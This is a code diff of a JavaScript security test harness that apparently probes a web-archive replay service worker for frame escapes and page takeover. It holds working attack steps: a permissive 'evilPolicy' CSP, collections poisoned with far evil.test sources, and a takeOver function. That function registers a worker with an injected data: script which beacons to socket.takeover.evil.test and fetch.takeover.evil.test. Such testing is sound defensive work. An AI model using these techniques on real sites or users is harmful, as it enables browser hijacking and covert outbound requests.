@@ -113,34 +113,46 @@ async function escapeByRealm(realm, place) {
     }));
 }
 
-/** Takes the agent's frame, or one of this page, to an address of this origin, and tries to get out from there. */
+/** Shows an answer in a frame of this page, and tries to get out from there. Returns what the frame held. */
 async function escapeByAnswer(name, path) {
-    const log = [];
-    const places = [[`${name}-own`, () => windowOf(rawAppend(`<iframe src="${path}"></iframe>`))]];
-    if (agent !== window) {
-        places.push([`${name}-agent`, () => {
-            const link = agent.document.createElement("a");
-            link.href = path;
-            agent.document.body.append(link);
-            link.click();
-            return agent;
-        }]);
+    const frame = rawAppend(`<iframe src="${path}"></iframe>`);
+    const shown = new Promise((done) => agent.EventTarget.prototype.addEventListener.call(frame, "load", done));
+    // What is downloaded is never shown.
+    await Promise.race([shown, pause(5)]);
+    return escapeByWindow(windowOf(frame), `${name}.answers`);
+}
+
+/** The same in the agent's frame, which the viewer made. */
+async function escapeByAgent(name, path) {
+    const link = agent.document.createElement("a");
+    link.href = path;
+    agent.document.body.append(link);
+    link.click();
+    await pause(1);
+    return escapeByWindow(agent, `${name}-agent.answers`);
+}
+
+async function escapeByWindow(realm, place) {
+    try {
+        const type = realm.document.contentType;
+        await escapeByRealm(realm, place);
+        return `${place}: ${type}`;
+    } catch (error) {
+        return `${place}: ${error.name}`;
     }
-    for (const [place, open] of places) {
-        try {
-            const realm = open();
-            await pause(1);
-            log.push(`${place}: ${realm.document.contentType} ${realm.location.pathname.slice(0, 40)}`);
-            await escapeByRealm(realm, `${place}.frames`);
-        } catch (error) {
-            log.push(`${place}: ${error.name}`);
-        }
-    }
-    return log;
+}
+
+/** @param {Object<string, string>} answers paths by name */
+async function escapeFromAnswers(answers) {
+    const collection = location.pathname.split("/")[1];
+    const log = await Promise.all(Object.entries(answers).map(
+        ([name, path]) => escapeByAnswer(name, path.replace("COLLECTION", collection))));
+    log.push(await escapeByWindow(agent, "agent.answers"));
+    finish(log);
 }
 
 async function escapeFromAnswer(name, path) {
-    finish(await escapeByAnswer(name, path.replace("COLLECTION", location.pathname.split("/")[1])));
+    finish(await escapeByAgent(name, path));
 }
 
 const evilPolicy = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'; connect-src *; frame-src *; img-src *";
@@ -171,11 +183,12 @@ function engine(id) {
             registration.active.postMessage(message);
         });
     };
-    const add = (name, extra = {}) => ({
-        msg_type: "addColl", name, root: false, skipExisting: false, type: "live", file: { sourceUrl: "proxy:" },
-        extraConfig: { prefix: "", isLive: false, archivePrefix: `${location.origin}/c/${id}/`, archiveMod: "ir_", csp: evilPolicy },
-        ...extra,
-    });
+    const isByRanges = agent.location.search.includes("replay=ranges");
+    const source = isByRanges
+        ? { file: { sourceUrl: `${location.origin}/archives/${id}.wacz?view=replay`, name: `${id}.wacz` }, extraConfig: { csp: evilPolicy } }
+        : { type: "live", file: { sourceUrl: "proxy:" }, extraConfig: {
+            prefix: "", isLive: false, archivePrefix: `${location.origin}/c/${id}/`, archiveMod: "ir_", csp: evilPolicy } };
+    const add = (name, extra = {}) => ({ msg_type: "addColl", name, root: false, skipExisting: false, ...source, ...extra });
     return { collection, container, say, add };
 }
 
@@ -198,7 +211,7 @@ function poisonMore(id, site) {
         ["far source", () => say({ msg_type: "addColl", name: "far",
             file: { sourceUrl: "http://source.poison.evil.test/x.wacz" }, extraConfig: {} }, "collProgress")],
         ["other collection", () => say(add("evil"), "collAdded")],
-        ["far prefix", () => say(add("evilfar", { extraConfig: {
+        ["far prefix", () => say(add("evilfar", { type: "live", file: { sourceUrl: "proxy:" }, extraConfig: {
             prefix: "http://prefix.poison.evil.test/", isLive: true, archivePrefix: "http://prefix2.poison.evil.test/",
             csp: evilPolicy } }), "collAdded")],
         ["frame of far prefix", () => agent.fetch(`/evilfar/20241121090000mp_/${site}/inner`).then((answer) => answer.status)],
@@ -235,5 +248,25 @@ function poisonMore(id, site) {
         ...scripts.flatMap((script) => [`/${collection}/`, "/narrow/", "/"].map((scope) => [
             `register ${script} for ${scope}`,
             () => container.register(script, { scope }).then(() => "registered")])),
+    ]);
+}
+
+/** Has a worker answer in the place of our agent's page, with a script and without a policy. */
+function takeOver() {
+    const { container } = engine("");
+    const script = "new WebSocket('ws://socket.takeover.evil.test/'); fetch('http://fetch.takeover.evil.test/', { mode: 'no-cors' });"
+        + "document.documentElement.append(Object.assign(document.createElement('h2'), { textContent: 'taken over' }))";
+    const address = `/sw.js?serveIndex=1&replayPrefix=w&indexScript=${encodeURIComponent(`data:text/javascript,${encodeURIComponent(script)}`)}`;
+    steps([
+        ["register", async () => {
+            const registration = await container.register(address, { scope: "/" });
+            const worker = registration.installing ?? registration.waiting;
+            if (!worker) return registration.active.scriptURL;
+            return new Promise((done) => {
+                worker.onstatechange = () => {
+                    if (worker.state === "activated" || worker.state === "redundant") done(worker.state);
+                };
+            });
+        }],
     ]);
 }
